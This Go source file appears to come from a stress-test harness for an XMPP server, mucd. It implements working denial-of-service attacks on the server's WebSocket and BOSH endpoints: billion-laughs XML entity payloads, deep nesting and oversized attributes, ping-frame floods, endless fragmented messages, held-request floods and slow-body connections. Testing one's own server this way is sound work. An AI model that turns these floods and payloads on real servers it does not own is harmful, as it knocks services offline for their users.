package main

import (
	"bufio"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"io"
	"net"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"sync/atomic"
	"time"
)

// moreHTTPAttacks go after WebSocket and BOSH (mucd -http) the way the
// TCP attacks go after c2s: XML tricks inside frames and bodies, control
// frame floods, held requests and slow bodies.
func moreHTTPAttacks() []attack {
	needHTTP := func(f func(e *env) (string, error)) func(e *env) (string, error) {
		return func(e *env) (string, error) {
			if e.b.o.httpAddr == "" {
				return "skipped: no -http (mucd serves no HTTP by default)", nil
			}
			return f(e)
		}
	}
	return []attack{
		{"ws-xml-tricks", "200 WebSocket streams sending DOCTYPEs with nested entities, processing instructions, comments, deep nesting and endless attributes inside frames", needHTTP(wsXMLTricks)},
		{"ws-ping-flood", "200 logged-in WebSocket streams flooding ping frames at line rate, never reading the pongs", needHTTP(func(e *env) (string, error) { return wsPingFlood(e, false) })},
		{"ws-close-drain", "200 logged-in WebSocket streams sending a fragmented message that never ends, and going on writing after the server closes", needHTTP(func(e *env) (string, error) { return wsPingFlood(e, true) })},
		{"bosh-xml-tricks", "BOSH session creations and requests whose bodies carry DOCTYPEs, entities, processing instructions, deep nesting and 1 MB attributes", needHTTP(boshXMLTricks)},
		{"bosh-hold-flood", "250 addresses creating BOSH sessions with hold=1000 and keeping as many requests open in each as the server takes", needHTTP(boshHoldFlood)},
		{"http-slow-body", "2,000 BOSH POSTs over 250 addresses announcing 100 KB bodies and sending one byte every 500 ms", needHTTP(httpSlowBody)},
	}
}

// wsFrame is one masked client frame.
func wsFrame(opcode byte, fin bool, payload []byte) []byte {
	b0 := opcode
	if fin {
		b0 |= 0x80
	}
	var hdr []byte
	switch n := len(payload); {
	case n < 126:
		hdr = []byte{b0, 0x80 | byte(n)}
	case n < 1<<16:
		hdr = []byte{b0, 0x80 | 126, byte(n >> 8), byte(n)}
	default:
		hdr = make([]byte, 10)
		hdr[0], hdr[1] = b0, 0x80|127
		binary.BigEndian.PutUint64(hdr[2:], uint64(n))
	}
	mask := [4]byte{7, 1, 3, 9}
	out := append(hdr, mask[:]...)
	for i, c := range payload {
		out = append(out, c^mask[i%4])
	}
	return out
}

// wsDial upgrades a new connection from src to an XMPP WebSocket.
func (e *env) wsDial(src net.IP) (net.Conn, *bufio.Reader, error) {
	orig := e.addr
	e.addr = e.b.o.httpAddr
	nc, err := e.dial(src, false)
	e.addr = orig
	if err != nil {
		return nil, nil, err
	}
	req := "GET /xmpp-websocket HTTP/1.1\r\nHost: " + e.b.o.httpAddr + "\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: xmpp\r\n\r\n"
	_ = nc.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.WriteString(nc, req); err != nil {
		nc.Close()
		return nil, nil, err
	}
	br := bufio.NewReader(nc)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		nc.Close()
		return nil, nil, err
	}
	if resp.StatusCode != 101 {
		nc.Close()
		return nil, nil, fmt.Errorf("websocket upgrade: %s", resp.Status)
	}
	_ = nc.SetDeadline(time.Time{})
	return nc, br, nil
}

func (e *env) wsOpen() []byte {
	return wsFrame(1, true, []byte("<open xmlns='urn:ietf:params:xml:ns:xmpp-framing' to='"+e.domain+"' version='1.0'/>"))
}

// wsLogin logs in over WebSocket with PLAIN (any password) and binds.
func (e *env) wsLogin(src net.IP, user string) (net.Conn, error) {
	nc, br, err := e.wsDial(src)
	if err != nil {
		return nil, err
	}
	auth := base64.StdEncoding.EncodeToString([]byte("\x00" + user + "\x00pw"))
	var out []byte
	out = append(out, e.wsOpen()...)
	out = append(out, wsFrame(1, true, []byte("<auth xmlns='urn:ietf:params:xml:ns:xmpp-sasl' mechanism='PLAIN'>"+auth+"</auth>"))...)
	out = append(out, e.wsOpen()...)
	out = append(out, wsFrame(1, true, []byte("<iq type='set' id='b' xmlns='jabber:client'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></iq>"))...)
	_ = nc.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := nc.Write(out); err != nil {
		nc.Close()
		return nil, err
	}
	var seen []byte
	buf := make([]byte, 4096)
	for !strings.Contains(string(seen), "</jid>") {
		n, err := br.Read(buf)
		seen = append(seen, buf[:n]...)
		if err != nil || strings.Contains(string(seen), "failure") || len(seen) > 1<<16 {
			nc.Close()
			return nil, fmt.Errorf("websocket login %s: %v %q", user, err, trim(seen, 200))
		}
	}
	_ = nc.SetDeadline(time.Time{})
	e.loggedIn.Add(1)
	return nc, nil
}

func wsXMLTricks(e *env) (string, error) {
	lol := `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>`
	var attrs strings.Builder
	for i := range 5000 {
		attrs.WriteString(" a" + strconv.Itoa(i) + "='v'")
	}
	tricks := [][]byte{
		[]byte(lol + "<open xmlns='urn:ietf:params:xml:ns:xmpp-framing' to='&lol9;' version='1.0'/>"),
		[]byte(lol + "<message xmlns='jabber:client'><body>&lol9;</body></message>"),
		[]byte("<?xml-stylesheet href='x'?><message xmlns='jabber:client'/>"),
		[]byte("<!-- " + strings.Repeat("c", 60000) + " -->"),
		[]byte("<message xmlns='jabber:client'>" + strings.Repeat("<a>", 60000) + "</message>"),
		[]byte("<message xmlns='jabber:client'" + attrs.String() + "/>"),
		[]byte("<message xmlns='jabber:client'><body>&#99999999999;&undefined;</body></message>"),
		[]byte("<message xmlns='jabber:client'><![CDATA[" + strings.Repeat("]]", 30000) + "]]></message>"),
	}
	var k atomic.Int64
	e.parallel(32, func(w int) {
		for n := 0; !e.done(); n++ {
			src := ip((w + 32*n) % 200)
			var nc net.Conn
			var err error
			if n%2 == 0 {
				nc, err = e.wsLogin(src, "wsx"+strconv.Itoa(w))
			} else {
				nc, _, err = e.wsDial(src)
				if err == nil {
					_, err = nc.Write(e.wsOpen())
				}
			}
			if err != nil {
				time.Sleep(20 * time.Millisecond)
				continue
			}
			go func() { _, _ = io.Copy(io.Discard, nc) }()
			for range 20 {
				t := tricks[k.Add(1)%int64(len(tricks))]
				_ = nc.SetWriteDeadline(time.Now().Add(2 * time.Second))
				if _, err := nc.Write(wsFrame(1, true, t)); err != nil {
					break
				}
				e.sent.Add(1)
				e.sentBytes.Add(int64(len(t)))
			}
			nc.Close()
		}
	})
	return e.counts(), nil
}

// wsPingFlood has 200 WebSocket clients flood pings (frag false) or a
// message of endless continuation frames (frag true), writing on until the
// server closes the TCP connection.
func wsPingFlood(e *env, frag bool) (string, error) {
	ping := wsFrame(9, true, []byte(strings.Repeat("p", 125)))
	pings := []byte(strings.Repeat(string(ping), 200))
	first := wsFrame(1, false, []byte("<message xmlns='jabber:client'><body>"+strings.Repeat("f", 16<<10)))
	cont := wsFrame(0, false, []byte(strings.Repeat("f", 16<<10)))
	var cut atomic.Int64
	e.parallel(200, func(i int) {
		for !e.done() {
			nc, err := e.wsLogin(ip(i), "wsp"+strconv.Itoa(i))
			if err != nil {
				time.Sleep(50 * time.Millisecond)
				continue
			}
			for k := 0; !e.done(); k++ {
				out := pings
				if frag {
					out = cont
					if k == 0 {
						out = first
					}
				}
				_ = nc.SetWriteDeadline(time.Now().Add(2 * time.Second))
				if _, err := nc.Write(out); err != nil {
					if !e.done() {
						cut.Add(1)
					}
					break
				}
				e.sentBytes.Add(int64(len(out)))
			}
			nc.Close()
		}
	})
	return e.counts() + fmt.Sprintf(", server cut %d", cut.Load()), nil
}

var sidRE = regexp.MustCompile(`sid=['"]([^'"]+)['"]`)

// boshCreate creates a BOSH session with c and returns its sid.
func boshCreate(e *env, c *http.Client, hold string, rid int) (string, error) {
	body := "<body xmlns='http://jabber.org/protocol/httpbind' content='text/xml; charset=utf-8' hold='" + hold + "' rid='" + strconv.Itoa(rid) + "' to='" + e.domain + "' ver='1.6' wait='60' xml:lang='en' xmpp:version='1.0' xmlns:xmpp='urn:xmpp:xbosh'/>"
	st, got, err := boshPost(e, c, body)
	if err != nil {
		return "", err
	}
	m := sidRE.FindStringSubmatch(got)
	if st != 200 || m == nil {
		return "", fmt.Errorf("bosh create: %d %q", st, trim([]byte(got), 200))
	}
	return m[1], nil
}

func boshPost(e *env, c *http.Client, body string) (int, string, error) {
	ctx, cancel := context.WithTimeout(e.ctx, 3*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "POST", "http://"+e.b.o.httpAddr+"/http-bind", strings.NewReader(body))
	resp, err := c.Do(req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	e.sent.Add(1)
	e.sentBytes.Add(int64(len(body)))
	return resp.StatusCode, string(b), nil
}

func boshXMLTricks(e *env) (string, error) {
	lol := `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol9 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>`
	var statuses [600]atomic.Int64
	var k atomic.Int64
	e.parallel(32, func(w int) {
		c := httpClient(ip(w % 250))
		defer c.CloseIdleConnections()
		rid := 5000
		sid, _ := boshCreate(e, c, "1", rid)
		for !e.done() {
			rid++
			n := k.Add(1)
			var body string
			switch n % 8 {
			case 0:
				body = lol + "<body xmlns='http://jabber.org/protocol/httpbind' rid='1' to='&lol9;' hold='1' wait='60' ver='1.6'/>"
			case 1:
				body = lol + "<body xmlns='http://jabber.org/protocol/httpbind' rid='" + strconv.Itoa(rid) + "' sid='" + sid + "'><message xmlns='jabber:client'><body>&lol9;</body></message></body>"
			case 2:
				body = "<?xml version='1.0'?><?pi x?><!-- c --><body xmlns='http://jabber.org/protocol/httpbind' rid='" + strconv.Itoa(rid) + "' sid='" + sid + "'><?pi?></body>"
			case 3:
				body = "<body xmlns='http://jabber.org/protocol/httpbind' rid='" + strconv.Itoa(rid) + "' sid='" + sid + "'>" + strings.Repeat("<a>", 100000) + "</body>"
			case 4:
				body = "<body xmlns='http://jabber.org/protocol/httpbind' rid='" + strconv.Itoa(rid) + "' sid='" + sid + "' x='" + strings.Repeat("x", 1<<20) + "'/>"
			case 5:
				var b strings.Builder
				b.WriteString("<body xmlns='http://jabber.org/protocol/httpbind' rid='" + strconv.Itoa(rid) + "' sid='" + sid + "'")
				for i := range 20000 {
					b.WriteString(" a" + strconv.Itoa(i) + "='1'")
				}
				body = b.String() + "/>"
			case 6:
				body = "<body xmlns='http://jabber.org/protocol/httpbind' rid='99999999999999999999999' sid='" + strings.Repeat("s", 100000) + "'/>"
			default:
				body = "<body xmlns='http://jabber.org/protocol/httpbind' rid='" + strconv.Itoa(rid) + "' sid='" + sid + "'>" + strings.Repeat("<message xmlns='jabber:client' to='x@"+e.domain+"'><body>m</body></message>", 3000) + "</body>"
			}
			st, _, err := boshPost(e, c, body)
			if err != nil {
				e.failed.Add(1)
				e.noteErr(err)
				c.CloseIdleConnections()
				continue
			}
			if st >= 0 && st < len(statuses) {
				statuses[st].Add(1)
			}
			if n%40 == 39 {
				sid, _ = boshCreate(e, c, "1", rid+1000)
				rid += 1000
			}
		}
	})
	var parts []string
	for st := range statuses {
		if v := statuses[st].Load(); v > 0 {
			parts = append(parts, fmt.Sprintf("%d x%d", st, v))
		}
	}
	return "HTTP " + strings.Join(parts, ", ") + "; " + e.counts(), nil
}

func boshHoldFlood(e *env) (string, error) {
	var sessions, held, refused atomic.Int64
	e.parallel(250, func(w int) {
		c := httpClient(ip(w))
		c.Timeout = 0
		c.Transport.(*http.Transport).MaxConnsPerHost = 0
		c.Transport.(*http.Transport).MaxIdleConnsPerHost = 100
		defer c.CloseIdleConnections()
		for !e.done() {
			rid := 1000
			sid, err := boshCreate(e, c, "1000", rid)
			if err != nil {
				refused.Add(1)
				time.Sleep(100 * time.Millisecond)
				continue
			}
			sessions.Add(1)
			// As many empty polls as the server will hold, each on its
			// own connection.
			done := make(chan struct{}, 20)
			for j := 1; j <= 20; j++ {
				r := rid + j
				go func() {
					defer func() { done <- struct{}{} }()
					req, _ := http.NewRequestWithContext(e.ctx, "POST", "http://"+e.b.o.httpAddr+"/http-bind", strings.NewReader("<body xmlns='http://jabber.org/protocol/httpbind' rid='"+strconv.Itoa(r)+"' sid='"+sid+"'/>"))
					held.Add(1)
					resp, err := c.Do(req)
					if err == nil {
						_, _ = io.Copy(io.Discard, resp.Body)
						resp.Body.Close()
					}
				}()
			}
			for range 20 {
				<-done
			}
		}
	})
	return fmt.Sprintf("%d sessions, %d requests sent to be held, %d creations refused", sessions.Load(), held.Load(), refused.Load()), nil
}

func httpSlowBody(e *env) (string, error) {
	orig := e.addr
	e.addr = e.b.o.httpAddr
	var conns []net.Conn
	for i := 0; i < 2000 && !e.done(); i++ {
		nc, err := e.dial(ip(i%250), false)
		if err != nil {
			continue
		}
		if _, err := io.WriteString(nc, "POST /http-bind HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: 100000\r\n\r\n<body xmlns='http://jabber.org/protocol/httpbind' "); err != nil {
			continue
		}
		conns = append(conns, nc)
	}
	e.addr = orig
	for k := 0; !e.done(); k++ {
		for _, nc := range conns {
			_ = nc.SetWriteDeadline(time.Now().Add(10 * time.Millisecond))
			_, _ = nc.Write([]byte{'a'})
		}
		select {
		case <-e.ctx.Done():
		case <-time.After(500 * time.Millisecond):
		}
	}
	return e.counts() + fmt.Sprintf(", %d still open at the end", stillOpen(e)), nil
}
